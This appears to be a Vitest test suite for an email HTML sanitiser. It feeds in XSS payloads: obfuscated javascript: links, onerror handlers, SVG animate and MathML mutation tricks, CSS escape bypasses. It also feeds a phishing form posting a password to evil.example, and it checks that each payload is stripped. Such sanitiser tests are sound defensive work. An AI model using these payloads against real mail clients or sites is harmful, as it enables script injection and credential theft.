// @vitest-environment jsdom
import { describe, expect, it } from 'vitest';
import { sanitizeMessageHtml } from '../../web/features/mail/html/sanitize';

/** Sanitise and hand back a container to query (serialising here is for the test only). */
function clean(html: string, options: Parameters<typeof sanitizeMessageHtml>[1] = {}) {
  const { fragment, hasRemoteContent } = sanitizeMessageHtml(html, options);
  const root = document.createElement('div');
  root.append(fragment);
  return { root, hasRemoteContent, html: root.innerHTML };
}

const resolveCid = (id: string) => (id === 'logo@example.com' ? '/api/messages/7/attachments/2?folder=INBOX&inline=1' : null);

describe('sanitizeMessageHtml: script', () => {
  it('removes script elements and their content', () => {
    const { root, html } = clean('<p>hi</p><script>alert(1)</script><SCRIPT SRC=//evil.example/x.js></SCRIPT>');
    expect(root.querySelector('script')).toBeNull();
    expect(html).not.toMatch(/alert|evil/);
    expect(root.textContent).toBe('hi');
  });

  it('removes event handler attributes', () => {
    const { root } = clean('<img src="x" onerror="alert(1)"><div onclick="alert(1)" onmouseover=alert(1)>x</div><body onload=alert(1)>');
    for (const el of root.querySelectorAll('*')) {
      expect([...el.attributes].filter((a) => a.name.startsWith('on'))).toEqual([]);
    }
  });

  it('removes javascript:, vbscript: and data: links, however they are spelt', () => {
    const { root } = clean(
      [
        '<a href="javascript:alert(1)">a</a>',
        '<a href="JaVaScRiPt:alert(1)">b</a>',
        '<a href="jav&#x09;ascript:alert(1)">c</a>',
        '<a href=" &#14; javascript:alert(1)">d</a>',
        '<a href="vbscript:msgbox(1)">e</a>',
        '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">f</a>',
      ].join(''),
    );
    const links = [...root.querySelectorAll('a')];
    expect(links).toHaveLength(6);
    for (const a of links) expect(a.hasAttribute('href')).toBe(false);
  });

  it('keeps web, mailto and tel links and opens them in a new tab without referrer', () => {
    const { root } = clean('<a href="https://example.com/a?b=1">web</a><a href="mailto:joy@example.com">mail</a><a href="tel:+15551234">tel</a><a>bare</a>');
    const links = [...root.querySelectorAll('a')];
    expect(links.map((a) => a.getAttribute('href'))).toEqual(['https://example.com/a?b=1', 'mailto:joy@example.com', 'tel:+15551234', null]);
    for (const a of links) {
      expect(a.getAttribute('target')).toBe('_blank');
      expect(a.getAttribute('rel')).toBe('noopener noreferrer');
    }
  });

  it('drops links to our own origin and to fragments', () => {
    const { root } = clean('<a href="/api/session">x</a><a href="//">y</a><a href="#top">z</a>');
    for (const a of root.querySelectorAll('a')) expect(a.hasAttribute('href')).toBe(false);
  });
});

describe('sanitizeMessageHtml: active and foreign content', () => {
  it('removes SVG with animate, set and use, and MathML', () => {
    const { root, html } = clean(
      [
        '<svg><animate attributeName="href" values="javascript:alert(1)"/><a><text>x</text></a></svg>',
        '<svg><set attributeName="onmouseover" to="alert(1)"/></svg>',
        '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>alert(1)</script></svg>#x"/></svg>',
        '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
        '<p>kept</p>',
      ].join(''),
    );
    for (const tag of ['svg', 'animate', 'set', 'use', 'math', 'mglyph', 'img']) expect(root.getElementsByTagName(tag)).toHaveLength(0);
    expect(html).toBe('<p>kept</p>');
  });

  it('removes forms and every control, keeping their text', () => {
    const { root } = clean(
      '<form action="https://evil.example/steal" method="post"><label>Password <input type="password" name="p"></label><select><option>a</option></select><textarea>t</textarea><button formaction="javascript:alert(1)">Log in</button></form>',
    );
    for (const tag of ['form', 'input', 'button', 'select', 'option', 'textarea']) expect(root.getElementsByTagName(tag)).toHaveLength(0);
    expect(root.textContent).toContain('Log in');
  });

  it('removes frames, objects, embeds, meta, link, base and template', () => {
    const { root } = clean(
      '<iframe src="https://evil.example"></iframe><object data="x.swf"></object><embed src="x.swf"><meta http-equiv="refresh" content="0;url=https://evil.example"><link rel="stylesheet" href="https://evil.example/x.css"><base href="https://evil.example/"><template><img src=x onerror=alert(1)></template><p>ok</p>',
    );
    for (const tag of ['iframe', 'object', 'embed', 'meta', 'link', 'base', 'template', 'img']) expect(root.getElementsByTagName(tag)).toHaveLength(0);
    expect(root.innerHTML).toBe('<p>ok</p>');
  });
});

describe('sanitizeMessageHtml: CSS', () => {
  it('neutralises @import and url(http…) in <style> and reports them as remote', () => {
    const { root, hasRemoteContent } = clean(
      '<style>@import url("https://evil.example/x.css"); @import \'//evil.example/y.css\'; body { background: url(http://tracker.example/bg.png) } p { color: red }</style><p>x</p>',
    );
    const css = root.querySelector('style')?.textContent ?? '';
    expect(hasRemoteContent).toBe(true);
    expect(css).not.toMatch(/@import/i);
    expect(css).not.toMatch(/evil|tracker/);
    expect(css).toContain('color: red');
  });

  it('keeps <style> from the <head> of a full document', () => {
    const { root } = clean('<html><head><style>.x { color: #333 }</style></head><body><p class="x">y</p></body></html>');
    expect(root.querySelector('style')?.textContent).toContain('.x { color: #333 }');
    expect(root.querySelector('p.x')).not.toBeNull();
  });

  it('strips position: fixed and sticky from style attributes and sheets', () => {
    const { root } = clean(
      '<div style="position:fixed; top:0; left:0; width:100%; height:100%; z-index:9999">overlay</div><div style="POSITION : sticky !important">s</div><div style="position: relative">r</div><style>.o { position: fixed } .position:hover { color: blue }</style>',
    );
    const [overlay, sticky, relative] = [...root.querySelectorAll('div')];
    expect(overlay?.getAttribute('style')).not.toMatch(/fixed/i);
    expect(overlay?.getAttribute('style')).toContain('position: static');
    expect(sticky?.getAttribute('style')).not.toMatch(/sticky/i);
    expect(relative?.getAttribute('style')).toContain('position: relative');
    const css = root.querySelector('style')?.textContent ?? '';
    expect(css).not.toMatch(/fixed/);
    expect(css).toContain('.position:hover { color: blue }');
  });

  it('sees through CSS escapes, comments, var() and unclosed url(', () => {
    const cases = [
      '<div style="background: u\\72l(http://evil.example/a.png)">1</div>',
      '<div style="background: url(/**/http://evil.example/b.png)">2</div>',
      '<div style="--p: fixed; position: var(--p)">3</div>',
      '<div style="--u: url(http://evil.example/c.png); background: var(--u)">4</div>',
      '<div style="background: url(http://evil.example/d.png">5</div>',
      '<style>@im\\70 ort "http://evil.example/e.css"; @im/**/port url(http://evil.example/f.css);</style><div>6</div>',
      '<style>@im@import x;port url(http://evil.example/g.css);</style><div>7</div>',
      '<div style="background-image: image-set(\'http://evil.example/h.png\' 1x)">8</div>',
      '<div style="width: expression(alert(1))">9</div>',
    ];
    for (const html of cases) {
      const { root } = clean(html);
      const text = [...root.querySelectorAll('[style]')].map((e) => e.getAttribute('style')).join(' ') + (root.querySelector('style')?.textContent ?? '');
      expect(text, html).not.toMatch(/evil\.example|expression\(|@import|position\s*:\s*var/i);
    }
  });
});

describe('sanitizeMessageHtml: remote content', () => {
  const remote = [
    '<img src="https://tracker.example/pixel.gif" alt="pixel">',
    '<img srcset="https://cdn.example/a.png 1x, https://cdn.example/b.png 2x">',
    '<table background="http://cdn.example/bg.png"><tr><td background="//cdn.example/td.png">x</td></tr></table>',
    '<img src="\\\\cdn.example\\a.png">',
    '<div style="background-image: url(\'https://cdn.example/bg.png\')">y</div>',
  ].join('');

  it('removes remote images and backgrounds and says there were some', () => {
    const { html, hasRemoteContent } = clean(remote);
    expect(hasRemoteContent).toBe(true);
    expect(html).not.toMatch(/tracker\.example|cdn\.example/);
  });

  it('keeps them when remote content is allowed', () => {
    const { root, hasRemoteContent } = clean(remote, { allowRemote: true });
    expect(hasRemoteContent).toBe(true);
    const [pixel, set, backslashed] = [...root.querySelectorAll('img')];
    expect(pixel?.getAttribute('src')).toBe('https://tracker.example/pixel.gif');
    expect(pixel?.getAttribute('referrerpolicy')).toBe('no-referrer');
    expect(set?.getAttribute('srcset')).toBe('https://cdn.example/a.png 1x, https://cdn.example/b.png 2x');
    expect(backslashed?.getAttribute('src')).toBe('https://cdn.example/a.png');
    expect(root.querySelector('table')?.getAttribute('background')).toBe('http://cdn.example/bg.png');
    expect(root.querySelector('div')?.getAttribute('style')).toContain('url("https://cdn.example/bg.png")');
  });

  it('reports nothing for a message without remote resources', () => {
    expect(clean('<p><a href="https://example.com">a link is not a resource</a></p>').hasRemoteContent).toBe(false);
  });

  it('drops relative image sources (they would hit our own origin)', () => {
    const { root } = clean('<img src="/api/session"><img src="logo.png">');
    for (const img of root.querySelectorAll('img')) expect(img.hasAttribute('src')).toBe(false);
  });
});

describe('sanitizeMessageHtml: inline images', () => {
  it('rewrites cid: images to the inline attachment address', () => {
    const { root, hasRemoteContent } = clean('<img src="cid:logo@example.com" alt="Logo"><img src="CID:%3Clogo@example.com%3E">', { resolveCid });
    const [plain, bracketed] = [...root.querySelectorAll('img')];
    expect(plain?.getAttribute('src')).toBe('/api/messages/7/attachments/2?folder=INBOX&inline=1');
    expect(bracketed?.getAttribute('src')).toBe('/api/messages/7/attachments/2?folder=INBOX&inline=1');
    expect(hasRemoteContent).toBe(false);
  });

  it('rewrites cid: in CSS too, and drops unknown cids', () => {
    const { root } = clean('<div style="background: url(cid:logo@example.com)">a</div><img src="cid:missing@example.com">', { resolveCid });
    expect(root.querySelector('div')?.getAttribute('style')).toContain('url("/api/messages/7/attachments/2?folder=INBOX&inline=1")');
    expect(root.querySelector('img')?.hasAttribute('src')).toBe(false);
  });

  it('keeps raster data: images and drops SVG and HTML data: URLs', () => {
    const png = 'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==';
    const { root } = clean(`<img src="${png}"><img src="data:image/svg+xml;base64,PHN2Zz48c2NyaXB0PmFsZXJ0KDEpPC9zY3JpcHQ+PC9zdmc+"><img src="data:text/html,<script>alert(1)</script>">`);
    const [raster, svg, page] = [...root.querySelectorAll('img')];
    expect(raster?.getAttribute('src')).toBe(png);
    expect(svg?.hasAttribute('src')).toBe(false);
    expect(page?.hasAttribute('src')).toBe(false);
  });
});

describe('sanitizeMessageHtml: ordinary mail survives', () => {
  it('keeps layout tables, fonts, classes, inline styles and headings', () => {
    const { root } = clean(
      '<table width="600" cellpadding="0" cellspacing="0" border="0" align="center" bgcolor="#ffffff" role="presentation"><tr><td class="hero" style="padding: 24px; color: #333; font-family: Arial, sans-serif" valign="top"><h1>Welcome</h1><font color="#888" face="Georgia">Small print</font></td></tr></table>',
    );
    const table = root.querySelector('table');
    expect(table?.getAttribute('width')).toBe('600');
    expect(table?.getAttribute('bgcolor')).toBe('#ffffff');
    const td = root.querySelector('td.hero');
    expect(td?.getAttribute('style')).toContain('padding: 24px');
    expect(td?.getAttribute('valign')).toBe('top');
    expect(root.querySelector('h1')?.textContent).toBe('Welcome');
    expect(root.querySelector('font')?.getAttribute('face')).toBe('Georgia');
  });

  it('returns a detached fragment that is not in the page', () => {
    const { fragment } = sanitizeMessageHtml('<p id="x">hello</p>');
    expect(fragment.nodeType).toBe(Node.DOCUMENT_FRAGMENT_NODE);
    expect(fragment.ownerDocument).not.toBe(document);
    expect(document.getElementById('x')).toBeNull();
  });
});

describe('sanitizeMessageHtml: odd documents', () => {
  it('returns an empty fragment for a frameset document (which has no body)', () => {
    const { fragment } = sanitizeMessageHtml('<frameset onload="alert(1)"><frame src="javascript:alert(1)"></frameset>');
    expect(fragment.childNodes).toHaveLength(0);
  });

  it('returns an empty fragment for empty input', () => {
    expect(sanitizeMessageHtml('').fragment.childNodes).toHaveLength(0);
  });
});
